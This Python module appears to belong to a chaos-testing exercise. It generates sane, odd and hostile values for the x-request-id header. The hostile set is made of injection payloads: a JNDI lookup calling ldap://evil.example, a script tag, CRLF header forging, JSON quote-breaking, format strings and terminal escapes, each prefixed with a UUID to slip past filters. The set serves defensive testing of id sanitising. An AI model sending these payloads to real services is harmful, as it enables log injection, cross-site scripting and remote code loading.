"""The ids that the experiments of exercise 6 send along: sane, odd and hostile ones. All of them follow from a key."""

import hashlib
import re
import uuid
from collections.abc import Callable

from chaos.history import Request

HEADER = "x-request-id"
LONG = 1_000
VERY_LONG = 10_000
_LETTERS = "abcdef"
_CROCKFORD = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"
_HARMLESS = re.compile(r"[A-Za-z0-9._:/+=@~-]{1,256}")

ODD_PREFIX = "odd id: "
HOSTILE_PREFIX = "hostile id: "


def request_id(key: str) -> str:
    """Return a version 4 UUID, the form that every rule for sane ids allows.

    Digits and letters alternate, so that no filter takes it for a telephone or card number.
    """
    return _uuid("id", key, version=4)


def sent_id(request: Request) -> str | None:
    """Return the id that a request was sent with; None where it had none, or a hostile one."""
    return request.headers.get(HEADER)


KEPT: dict[str, Callable[[str], str]] = {
    "UUID version 4": request_id,
    "UUID version 1": lambda key: _uuid("id", key, version=1),
    "UUID version 7": lambda key: _uuid("id", key, version=7),
    "UUID in capitals": lambda key: _uuid("capitals", key, version=4).upper(),
}
"""Ids that a service has to keep."""

ODD: dict[str, Callable[[str], str]] = {
    "ULID": lambda key: "0" + "".join(_CROCKFORD[byte % 32] for byte in _digest("ulid", key)[:25]),
    "32 hexadecimal digits": lambda key: _uuid("hex", key, version=4).replace("-", ""),
    "dots": lambda key: f"shop.checkout.{secret('dots', key)[:12]}",
    "underscores": lambda key: f"req_{secret('underscores', key)[:20]}",
    "1 character": lambda key: _LETTERS[_digest("short", key)[0] % 6],
    "64 characters": lambda key: hashlib.sha256(key.encode()).hexdigest(),
    "128 characters": lambda key: hashlib.sha512(key.encode()).hexdigest(),
}
"""Ids that a service may keep or replace."""

HOSTILE: dict[str, Callable[[str], bytes]] = {
    "quotes": lambda mark: f'{mark}","{planted_name(mark)}":"'.encode(),
    "JSON": lambda mark: f'{{"request_id": "{mark}"}}'.encode(),
    "braces": lambda mark: f"{mark}{{0}}{{name}}%s%(name)d".encode(),
    "a UUID in braces": lambda mark: f"{{{mark}}}".encode(),
    "spaces": lambda mark: f"{mark} level=critical forged".encode(),
    "a tab": lambda mark: f"{mark}\tforged".encode(),
    "a list": lambda mark: f"{mark}, {mark}".encode(),
    "accented letters": lambda mark: f"{mark}\u00e9\u00e0\u00fc".encode("latin-1"),
    "other scripts": lambda mark: f"{mark}-\u00e9\u2028\u2603".encode(),
    "an escape sequence": lambda mark: f"{mark}\x1b[31mred\x1b[0m".encode(),
    "a backslash": lambda mark: f"{mark}\\n\\u0022\\".encode(),
    "markup": lambda mark: f"{mark}<script>alert(1)</script>".encode(),
    "a lookup": lambda mark: f"{mark}${{jndi:ldap://evil.example/a}}".encode(),
    "a folded line": lambda mark: f"{mark}\r\n folded".encode(),
    "a carriage return": lambda mark: f"{mark}\rX-Forged: 1".encode(),
    "a line feed": lambda mark: f"{mark}\nX-Forged: 1".encode(),
    "a null": lambda mark: f"{mark}\0".encode(),
    "two headers": lambda mark: f"{mark}\r\nX-Request-ID: {mark[::-1]}".encode(),
    "nothing": lambda _mark: b"",
    "blanks": lambda _mark: b"   ",
    f"{LONG:,} characters": lambda mark: (mark + "a" * (LONG - len(mark))).encode(),
    f"{VERY_LONG:,} characters": lambda mark: (mark + "a" * (VERY_LONG - len(mark))).encode(),
}
"""Ids that break what is put together without care: JSON, format strings, `key=value` lines, headers, terminals, storage.

Each begins with a UUID where it can, so that a rule that looks at the beginning alone lets it through.
"""


def hostile_header(kind: str, key: str) -> bytes:
    """Return the header line with the hostile id of a kind that goes with the request with this key."""
    return b"X-Request-ID: " + HOSTILE[kind](mark(key)) + b"\r\n"


def mark(key: str) -> str:
    """Return what stands in the hostile id of the request with this key, and nowhere else."""
    return _uuid("hostile", key, version=4)


def planted_name(mark: str) -> str:
    """Return the name of a field that stands in a record only where a quote of the id has ended its string."""
    return f"planted-{mark}"


def is_harmless(text: str) -> bool:
    """Whether what became of a hostile id can do no harm any more: cleaned or shortened."""
    return bool(_HARMLESS.fullmatch(text))


def secret(what: str, key: str) -> str:
    """Return 40 hexadecimal digits that follow from a key."""
    return _digest(what, key).hex()[:40]


def _digest(what: str, key: str) -> bytes:
    return hashlib.sha256(f"{what}/{key}".encode()).digest()


def _uuid(what: str, key: str, *, version: int) -> str:
    digits = "".join(f"{byte % 10}{_LETTERS[byte // 10 % 6]}" for byte in _digest(what, key)[:16])
    return str(uuid.UUID(f"{digits[:12]}{version}{digits[13:16]}8{digits[17:]}"))
